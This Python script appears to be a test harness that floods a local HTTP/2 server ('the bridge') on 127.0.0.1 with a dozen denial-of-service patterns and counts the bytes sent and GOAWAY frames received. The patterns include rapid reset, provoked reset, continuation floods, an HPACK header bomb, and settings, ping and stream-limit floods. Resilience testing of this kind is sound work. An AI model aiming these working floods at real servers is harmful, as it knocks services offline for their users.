"""http2_attacker.py FLOOD PORT CONNECTIONS ADDRESS: sends frames of HTTP/2 as fast
as they are taken, from 127.0.0.ADDRESS on, one address for each connection. Says
"attacking", and what it did, in JSON, when it gets SIGTERM.

http2_attacker.py sink: a server that reads, and does nothing else."""

import json
import select
import signal
import socket
import struct
import sys
import time

from http2_bytes import (ACK, CONTINUATION, DATA, GOAWAY, HEADERS, OPENING,
                         PING, PRIORITY, RST_STREAM, SETTINGS,
                         WINDOW_UPDATE, field, frame, headers, request,
                         take_frames)

IP_BIND_ADDRESS_NO_PORT = 24
# A connection that has sent all it has is cut off after so long.
GIVE_UP = 1.0
BLOCK = 64 << 10
# Beyond loopback, no more is on its way when a GOAWAY comes.
SEND_BUFFER = 64 << 10
MAX_HEAD = 16 << 10  # the bridge's default

GET = request('GET', b'/counts/t')
POST = request('POST', b'/publish/t')


def streams(count, make, before=b''):
    """Frames of so many streams. They are sent once: a client may not open a
    stream twice."""
    return (OPENING + before + b''.join(make(2 * i + 1) for i in range(count)),
            b'')


def again(one, before=b''):
    """One frame, for as long as the connection lasts."""
    return OPENING + before, one * (BLOCK // len(one))


def open_post(stream):
    return headers(stream, POST, flags=0)


def too_long(stream):
    # Within four times the limit: the answer is 431, and the connection stays.
    line = field(b'x', b'a' * 1000)
    return headers(stream, GET + line * (MAX_HEAD * 3 // 2 // len(line)))


def bomb():
    """A field of 4,000 bytes, and then a byte for each time that it comes again."""
    block = GET + b'\x40' + field(b'x', b'a' * 4000)[1:] + b'\xbe' * 12_000
    return streams(100, lambda stream: headers(stream, block))


# What each sends first, and what it repeats.
FLOODS = {
    # Only whoever has acknowledged the limit breaks it.
    'streams': lambda: streams(5_000, open_post,
                               before=frame(SETTINGS, ACK, 0)),
    'refused-streams': lambda: streams(5_000, open_post),
    'header-lists': lambda: streams(200, too_long),
    'header-bomb': bomb,
    'settings': lambda: again(frame(SETTINGS, 0, 0, struct.pack('>HI', 4, 65_535))),
    'ping': lambda: again(frame(PING, 0, 0, b'12345678')),
    'rapid-reset': lambda: streams(
        5_000, lambda stream: headers(stream, GET) +
        frame(RST_STREAM, 0, stream, struct.pack('>I', 8))),
    # An overflow of its window makes the bridge reset the stream.
    'provoked-reset': lambda: streams(
        5_000, lambda stream: headers(stream, GET) +
        frame(WINDOW_UPDATE, 0, stream, struct.pack('>I', 0x7fffffff))),
    'continuation': lambda: again(frame(CONTINUATION, 0, 1, field(b'x', b'y')),
                                  before=frame(HEADERS, 0, 1, GET)),
    'window-update': lambda: again(frame(WINDOW_UPDATE, 0, 0,
                                         struct.pack('>I', 1))),
    'priority': lambda: again(frame(PRIORITY, 0, 3, struct.pack('>IB', 0, 15))),
    'empty-data': lambda: again(frame(DATA, 0, 1), before=open_post(1)),
}
# After this, the connection may stay.
NOT_ENDED = ('refused-streams',)


class Connection:
    def __init__(self, attack, source):
        self.attack, self.source = attack, source
        self.open()

    def open(self):
        self.socket = socket.socket()
        self.socket.setblocking(False)
        self.socket.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, SEND_BUFFER)
        self.socket.bind((self.source, 0))
        self.socket.connect_ex(('127.0.0.1', self.attack.port))
        self.attack.count['connections'] += 1
        self.input = bytearray()
        self.left = memoryview(self.attack.first)
        self.cut_off = float('inf')
        self.attack.watch(self)

    def reopen(self):
        self.attack.forget(self)
        self.socket.close()
        self.open()

    def on_events(self, events):
        """False: the connection is over."""
        if events & select.EPOLLIN and not self.read():
            return False
        if events & select.EPOLLOUT:
            self.write()
        return True

    def read(self):
        try:
            part = self.socket.recv(BLOCK)
        except BlockingIOError:
            return True
        except OSError:
            return False
        self.input += part
        for kind, *_ in take_frames(self.input):
            if kind == GOAWAY:
                self.attack.count['goaways'] += 1
                return False
        return bool(part)

    def write(self):
        try:
            sent = self.socket.send(self.left)
            self.attack.count['bytes'] += sent
            self.left = self.left[sent:]
            if self.left:
                return
            self.left = memoryview(self.attack.repeated)
            if not self.left:
                self.socket.shutdown(socket.SHUT_WR)
                self.attack.epoll.modify(self.socket, select.EPOLLIN)
                self.cut_off = time.monotonic() + GIVE_UP
        except OSError:
            pass  # the next read says so


class Attack:
    def __init__(self, flood, port, connections, address):
        self.first, self.repeated = FLOODS[flood]()
        self.port = port
        self.count = {'connections': 0, 'goaways': 0, 'bytes': 0}
        self.epoll = select.epoll()
        self.open = {}
        self.stopped = False
        signal.signal(signal.SIGTERM, self.stop)
        for i in range(connections):
            Connection(self, '127.0.0.%d' % (address + i))

    def stop(self, *_):
        self.stopped = True

    def watch(self, connection):
        self.open[connection.socket.fileno()] = connection
        self.epoll.register(connection.socket, select.EPOLLIN | select.EPOLLOUT)

    def forget(self, connection):
        del self.open[connection.socket.fileno()]
        self.epoll.unregister(connection.socket)

    def run(self):
        while not self.stopped:
            over = [self.open[fd] for fd, events in self.epoll.poll(0.1)
                    if not self.open[fd].on_events(events)]
            now = time.monotonic()
            over += [each for each in self.open.values()
                     if each.cut_off < now and each not in over]
            for connection in over:
                connection.reopen()


def sink():
    listener = socket.create_server(('127.0.0.1', 0), backlog=1024)
    print('listening on 127.0.0.1:%d' % listener.getsockname()[1], flush=True)
    epoll, sockets, buffer = select.epoll(), {}, bytearray(BLOCK)
    epoll.register(listener, select.EPOLLIN)
    while True:
        for fd, _ in epoll.poll():
            if fd == listener.fileno():
                accepted = listener.accept()[0]
                sockets[accepted.fileno()] = accepted
                epoll.register(accepted, select.EPOLLIN)
                continue
            try:
                if sockets[fd].recv_into(buffer) > 0:
                    continue
            except OSError:
                pass
            epoll.unregister(fd)
            sockets.pop(fd).close()


def main():
    if sys.argv[1:] == ['sink']:
        sink()
    attack = Attack(sys.argv[1], *map(int, sys.argv[2:]))
    print('attacking 127.0.0.1:%d' % attack.port, flush=True)
    attack.run()
    print(json.dumps(attack.count), flush=True)


if __name__ == '__main__':
    main()
